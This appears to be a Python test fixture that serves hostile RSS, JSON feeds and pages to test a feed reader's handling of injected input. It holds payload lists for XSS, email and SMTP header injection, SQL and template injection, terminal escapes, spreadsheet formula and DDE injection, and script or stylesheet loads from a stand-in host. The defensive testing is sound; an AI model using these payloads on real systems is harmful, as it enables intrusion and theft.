"""Hostile words (C): each row's items report a meeting of their own, so that their titles and quotes reach every output."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from xml.sax.saxutils import escape

from hostile.server import Ask, Handler, Wire

from torture.documents import RSS, Item, document
from torture.pages import HTML, meeting

FAULTS: dict[str, Handler] = {}

EVIL = "evil.example"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "C01": (
        f"<script src='http://{EVIL}/x.js'>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)><details open ontoggle=alert(1)>",
        "&lt;script&gt;alert(2)&lt;/script&gt;",
    ),
    "C02": (
        f"sûreté\r\nBcc: victime@{EVIL}",
        f"=?utf-8?Q?=0D=0ABcc:_victime@{EVIL}?=",
        f"sûreté\u2028Bcc: victime@{EVIL}\u0085Cc: victime@{EVIL}",
        f"sûreté\n\n<html>second message</html>\nSubject: autre\nTo: victime@{EVIL}",
    ),
    "C03": (f"fin\r\n.\r\nMAIL FROM:<victime@{EVIL}>\r\nRCPT TO:<victime@{EVIL}>\r\nDATA\r\n", "\n.\n", "fin\r.\rQUIT"),
    "C04": ("{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>", "{% for x in range(9) %}x{% endfor %}", "{{ ''.__class__.__mro__ }} %s %(x)s {0}"),
    "C05": ("'; DROP TABLE entries; --", '" OR 1=1 --', "'); DELETE FROM articles; SELECT ('"),
    "C06": ("\x1b]0;titre volé\x07\x1b[2J\x1b[31m", "\x9b2J\x9d0;x\x9c", "\x08\x08\x08\x7f\r caché", "\x1b[1;1H\x1b[?1049h"),
    "C07": (f'=HYPERLINK("http://{EVIL}","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"),
    "C08": ("\u202eiemoc\u202c", "Ham\u200bmou\u200dchi \u2066x\u2069", "Наmmоuсhi \ufeff"),
    "C09": (
        "</style><style>body{display:none}</style>",
        f'"></a></td></tr></table><link rel=stylesheet href=http://{EVIL}/x.css>',
        f"<base href=http://{EVIL}/><meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
        f"]]> --> <!-- url(http://{EVIL}/x.png) expression(alert(1))",
    ),
    "C10": ("&amp;amp;lt;b&amp;amp;gt; d&amp;#233;j&amp;agrave; vu", "\ud800 seul", "\udfff\ufffe\uffff"),
    "C12": (f"photo <img src='http://{EVIL}/pixel.png' width=1 height=1>", f"<iframe src='http://{EVIL}/'></iframe>"),
}

_GUESTS = {
    "C01": ("Marco Bellandi", "directeur général de la police italienne"),
    "C02": ("Pierre Delvaux", "chef de la police fédérale belge"),
    "C03": ("Jan Hofmeister", "président de la police fédérale allemande"),
    "C04": ("Luís Teixeira", "directeur de la police judiciaire portugaise"),
    "C05": ("Piet Verhoeven", "chef de la police néerlandaise"),
    "C06": ("Karl Lindqvist", "chef de la police suédoise"),
    "C07": ("Ioannis Pappas", "chef de la police grecque"),
    "C08": ("Mamadou Diatta", "directeur général de la police sénégalaise"),
    "C09": ("Kouassi Yapo", "directeur général de la police ivoirienne"),
    "C10": ("Mehmet Aksoy", "directeur général de la police turque"),
    "C12": ("Andrei Ionescu", "chef de la police roumaine"),
}


def title_of(row: str, number: int) -> str:
    """The hostile title of an item, as its publisher wrote it. Formulas stand first, where spreadsheets look."""
    words = f"{row} Hammouchi reçoit {_GUESTS[row][0]}"
    payload = PAYLOADS[row][number - 1]
    return f"{payload} {words}" if row == "C07" else f"{words} {payload}"


def _xml(text: str) -> str:
    """Text as XML; what XML cannot hold is written as a reference all the same, as broken software does."""
    return "".join(c if c.isprintable() or c in "\n\r\u2028" else f"&#x{ord(c):x};" for c in escape(text))


def _feed(row: str, ask: Ask) -> tuple[str, str]:
    date = datetime.now(UTC) - timedelta(hours=1)
    numbers = range(1, len(PAYLOADS[row]) + 1)
    if row == "C06":  # escape characters have no place in XML
        items = [
            {
                "id": f"{row}-{n}",
                "title": title_of(row, n),
                "url": f"http://{ask.host}/c/{row}/{n}",
                "content_text": title_of(row, n),
                "date_published": date.isoformat(),
            }
            for n in numbers
        ]
        return json.dumps(
            {"version": "https://jsonfeed.org/version/1.1", "title": "Le Fil \x1b[2J", "items": items}
        ), "application/feed+json"
    items = [
        Item(_xml(title_of(row, n)), f"http://{ask.host}/c/{row}/{n}", f"{row}-{n}", _xml(title_of(row, n)), format_datetime(date))
        for n in numbers
    ]
    return document(items, title=f"Le Fil {_xml(PAYLOADS[row][0])}"), RSS


def _row(row: str) -> None:
    async def feed(ask: Ask, wire: Wire) -> None:
        text, kind = _feed(row, ask)
        await wire.answer(text.encode("utf-8", "surrogatepass"), content_type=kind)

    async def page(ask: Ask, wire: Wire) -> None:
        number = int(ask.path.rpartition("/")[2])
        guest, role = _GUESTS[row]
        quoted = escape(PAYLOADS[row][number - 1])
        words = f"« La coopération sécuritaire avec le Maroc est exemplaire {quoted} », a déclaré {guest}."
        body = meeting(title_of(row, number), guest=guest, role=role, words=words)
        await wire.answer(body, content_type=HTML)

    FAULTS[row] = feed
    FAULTS[f"c/{row}/*"] = page


for _name in PAYLOADS:
    _row(_name)
